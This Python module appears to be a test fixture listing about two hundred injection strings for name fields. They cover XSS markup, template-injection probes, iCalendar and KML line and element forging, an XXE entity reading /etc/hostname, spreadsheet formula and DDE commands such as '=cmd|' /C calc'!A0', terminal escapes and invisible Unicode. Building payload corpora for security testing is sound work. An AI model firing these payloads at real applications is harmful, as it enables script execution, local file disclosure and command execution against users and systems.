"""Two hundred texts that somebody might write where a name belongs: markup, templates, messages, formulas, signs.

Each is one value of a field. In a browser the markup would set ``window.hit``, open a dialog or ask a server; in a
calendar, KML or KVN the text would begin a line or element of its own; in a spreadsheet it would be computed; in a
terminal it would colour, erase or hide.
"""

_RUN = "window.hit=1;alert(1)"
_ASK = "//ask.invalid/x"

MARKUP = (
    f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f"<script src={_ASK}></script>", f"<script type=module>import '{_ASK}'</script>",
    f"<img src=x onerror={_RUN}>", f"<img src={_ASK}>", f"<img srcset='{_ASK} 2x'>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>", f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>",
    f"</svg><img src=x onerror={_RUN}>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"</title><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--", f"<!--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f"<iframe src={_ASK}></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<object data={_ASK}></object>", f"<embed src={_ASK}>", f"<link rel=stylesheet href={_ASK}>",
    f"<base href={_ASK}>", f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<style>@import '{_ASK}';</style>",
    f"<style>*{{background:url({_ASK})}}</style>", f"<div style='background:url({_ASK})'>x</div>",
    f"<a href='javascript:{_RUN}'>x</a>", f"javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    f"<a href='{_ASK}' ping='{_ASK}'>x</a>", f"<form action={_ASK}><input autofocus onfocus={_RUN}></form>",
    f"<details open ontoggle={_RUN}>x</details>", f"<video><source onerror={_RUN}></video>",
    f"<audio src={_ASK} autoplay></audio>", f"<body onload={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>",
    f"<math><mi xlink:href='{_ASK}'>x</mi></math>", f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<table><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" x="', f"' onfocus='{_RUN}' autofocus x='", f"` onmouseover={_RUN} x=`",
    f"x onmouseover={_RUN} style=position:fixed;inset:0", "<b>bold", "</td></tr></table><h1>",
    "</p></div></body></html>",
    "&lt;script&gt;", "&#60;script&#62;", "&#x202e;&#0;&amp;amp;", "<", ">", '"', "'", "&", "<!doctype html>",
    "<?php echo 1 ?>", "<%= 7*7 %>", f"\x00<script>{_RUN}</script>", f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "\ufeff<script>0</script>",
)  # fmt: skip
TEMPLATES = (
    "[/case/title|odds]", "[/launch/site/lat|.3f]", "[/see-note]", "[/launch/time|clock]",
    "[/launch/site/lat|999999999f]",
    "[[/case/title]]", "[", "]", "[/", "[/case/title", "|.1f]", "{at}/culminate|moment]", "[{at}/range_km]",
    "{by}", "{0}",
    "{__class__}", "{{ 7*7 }}", "{% raw %}", "{{ self.__init__.__globals__ }}", "{# comment #}", "${7*7}",
    "#{7*7}", "%s %d %n",
    "%(title)s", "$(id)", "`id`", "\\g<0>", "\\1", "$& $1",
)  # fmt: skip
MESSAGES = (
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged", "x\r\nATTACH:file:///etc/hostname",
    "x\r\n RDATE:20300101T000000Z",
    "a;b,c:d\\n\\,\\;", "\\", "ATTENDEE;RSVP=TRUE:mailto:x@ask.invalid", "x\nNORAD_CAT_ID = 5",
    "COMMENT x\nEPOCH = 2000-01-01",
    "</name><NetworkLink><Link><href>http://ask.invalid</href></Link></NetworkLink><name>",
    "</value></Data></ExtendedData><Placemark>", "<![CDATA[<script>window.hit=1</script>]]>", "]]>",
    "<?xml-stylesheet href='x'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;", "&e;", '","id":"document","name":"',
    '{"type":"FeatureCollection"}',
    "#styleUrl", "1 25544U 98067A   98324.28472222 -.00003657  11563-4  00000+0 0    10", "0 X", "# note",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://ask.invalid","x")', "+1+1", "-1+1", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", '"=1+1', "'=1+1", ";=1+1", ",=1+1", "\uff1d1+1", "\uff0b1", "=DDE(\"x\";\"y\")",
    "-2+3+cmd|' /C x'!A0",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://ask.invalid\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[6n", "\x1bP+q544e\x1b\\", "\x1bc", "\x9b31m", "\x9d0;x\x9c", "abc\rXYZ", "abc\x08\x08\x08XYZ",
    "\x07\x07", "\x0e\x0f", "\x7f", "\x0b\x0c",
    "[bold]", "[/]", "[/bold]", "[red]x[/red]", "[link=http://ask.invalid]x[/link]", "\\[bold]",
    ":star: :skull:", "[@click=x]y[/]",
)  # fmt: skip
UNSEEN = (
    "\x00", "a\x00b", "gpj\u202eexe.", "\u2066\u2067\u2068x\u2069", "\u202a\u202b\u202c\u202d",
    "\u200e\u200f\u061c", "z\u200be\u200br\u200co",
    "\u200d\u2060\ufeff", "\u00ad soft\u00adhyphen", "\u2028line\u2029paragraph", "\u0085next",
    "\U000e0041\U000e0042\U000e007f",
    "a\ufe0f\ufe0e\ufe0f", "x\U000e0100\U000e0101", "\u3164\uffa0\u115f", "\ud800", "\udfff x",
    "\ufffe\uffff\U0010ffff", "\ufdd0", "\ufff9a\ufffab\ufffb",
    "\u034f\u17b4\u180e", "\U0001d173", "\u2800\u00a0\u3000x",
)  # fmt: skip
LONG = (
    "A" * 3000, "A" * 41, "WWWW" * 100, "\u8aad" * 500, "http://ask.invalid/" + "x" * 500, "a-" * 300,
    "word " * 600, "&" * 200,
    "<" * 200, "\u202e" * 60, "e" + "\u0301" * 80, "0" * 400,
)  # fmt: skip
SCRIPTS = (
    "\u0645\u06cc\u200c\u0631\u0648\u062f", "\u05e9\u05dc\u05d5\u05dd abc", "\u0915\u094d\u200d\u0937",
    "\u6771\u5009\u91cc \u897f\u6d77\u885b\u661f",
    "\u0421\u043e\u0445\u044d", "\U0001f680\U0001f468\u200d\U0001f680", "\u1e9e\u0130\u0131 \ufb03",
)  # fmt: skip

PAYLOADS = (*MARKUP, *TEMPLATES, *MESSAGES, *FORMULAS, *TERMINAL, *UNSEEN, *LONG, *SCRIPTS)
